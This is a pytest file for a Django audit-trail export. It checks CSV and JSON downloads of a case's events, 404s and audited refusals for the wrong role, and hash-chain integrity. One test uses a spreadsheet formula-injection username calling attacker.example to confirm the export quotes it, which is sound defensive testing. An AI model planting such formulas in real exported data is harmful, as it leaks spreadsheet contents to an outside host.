"""The staff case page links to the case's audit trail, downloadable as CSV or JSON: the
case's events and its records' events, none of another case's. Anyone without the intake
role gets 404, and both the export and the refusal are audited."""

import codecs
import csv
import io
import json

import pytest
from django.contrib.auth.models import Group, User

from conftest import intake_clerk
from openimr.audit.models import AuditEvent
from openimr.audit.selectors import case_timeline, trail_verify
from openimr.audit.services import audit_record
from openimr.cases.interchange import case_from_document
from openimr.cases.services import case_import

pytestmark = pytest.mark.django_db
CASE = "CM16-0400101"
URL = f"/audit/cases/{CASE}/trail"


@pytest.fixture
def case(three_item_doc):
    case_import(case=case_from_document(three_item_doc), actor="test")
    audit_record(
        actor="test",
        action="record.viewed",
        object_type="record",
        object_id="7",
        detail={"case_number": CASE},
    )
    audit_record(actor="test", action="case.viewed", object_type="case", object_id="CM99-0000001")
    return CASE


def _reviewer() -> User:
    user = User.objects.create_user("rev", password="a-long-test-password")
    user.groups.add(Group.objects.get_or_create(name="reviewer")[0])
    return user


def test_the_case_page_links_to_both_downloads(client, staff_client, case):
    body = client.get(f"/cases/{CASE}/").content.decode()
    assert f'href="{URL}.csv"' in body and f'href="{URL}.json"' in body


def test_the_json_download_holds_the_case_and_its_records_events(client, staff_client, case):
    response = client.get(f"{URL}.json")
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="{CASE}-audit-trail.json"'
    body = json.loads(response.content)
    actions = [(e["object_type"], e["action"]) for e in body["events"]]
    assert ("case", "case.imported") in actions
    assert ("record", "record.viewed") in actions
    assert actions[-1] == ("case", "case.trail_exported")
    assert all(e["object_id"] != "CM99-0000001" for e in body["events"])
    assert all(len(e["hash"]) == 64 for e in body["events"])
    # A look, not a change: the case's timeline of changes does not list it.
    assert not case_timeline(CASE).filter(action="case.trail_exported").exists()


def test_the_csv_download_has_a_row_per_event_with_actor_and_role(client, staff_client, case):
    response = client.get(f"{URL}.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    expected = AuditEvent.objects.filter(object_id__in=[CASE, "7"]).count()
    assert len(rows) == expected
    assert rows[-1]["actor"] == "clerk" and rows[-1]["role"] == "intake"
    assert json.loads(rows[-1]["detail"]) == {"format": "csv"}


def test_a_user_without_the_intake_role_gets_404_and_the_refusal_is_audited(client, case):
    client.force_login(_reviewer())
    assert client.get(f"{URL}.json").status_code == 404
    refusal = AuditEvent.objects.get(action="case.trail_exported.refused")
    assert (refusal.actor_label, refusal.object_id, refusal.role) == ("rev", CASE, "reviewer")
    assert not AuditEvent.objects.filter(action="case.trail_exported").exists()


def test_an_unknown_case_or_format_is_404(client, staff_client, case):
    assert client.get("/audit/cases/CM99-0000002/trail.json").status_code == 404
    assert client.get(f"{URL}.xml").status_code == 404
    assert AuditEvent.objects.filter(action="case.trail_exported.refused").count() == 2


def test_logging_in_comes_first(client, case):
    response = client.get(f"{URL}.csv")
    assert response.status_code == 302 and response["Location"].startswith("/login/")
    assert not AuditEvent.objects.filter(action__startswith="case.trail_exported").exists()


def test_a_csv_cell_a_spreadsheet_would_run_is_quoted_and_the_copy_still_checks(client, case):
    # A username a spreadsheet would run: the export's own event names it as the actor.
    name = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
    clerk = intake_clerk(name)
    client.force_login(clerk)
    audit_record(actor=clerk, action="case.viewed", object_type="case", object_id=CASE)

    rows = list(csv.DictReader(io.StringIO(client.get(f"{URL}.csv").content.decode("utf-8-sig"))))

    assert rows[-1]["actor"] == "'" + name  # shown as text, not run
    assert rows[-2]["actor"] == "'" + name
    # The copy checks against the trail: each row's hashes are the stored event's, and
    # the chain, which covers the name as stored, still verifies.
    stored = {e.pk: (e.prev_hash, e.hash, e.actor_label) for e in AuditEvent.objects.all()}
    assert all(stored[int(r["id"])][:2] == (r["prev_hash"], r["hash"]) for r in rows)
    assert stored[int(rows[-1]["id"])][2] == name
    assert trail_verify().ok
    # The JSON download holds the name as stored.
    assert client.get(f"{URL}.json").json()["events"][-1]["actor"] == name


def test_the_csv_starts_with_a_byte_order_mark_so_excel_reads_an_accented_name(client, case):
    # Without the mark Excel reads the file in the computer's legacy code page: "PeÃ±a".
    clerk = intake_clerk("josé.peña")
    client.force_login(clerk)

    body = client.get(f"{URL}.csv").content

    assert body.startswith(codecs.BOM_UTF8)
    assert body.count(codecs.BOM_UTF8) == 1
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[-1]["actor"] == "josé.peña" and rows[0]["id"].isdigit()
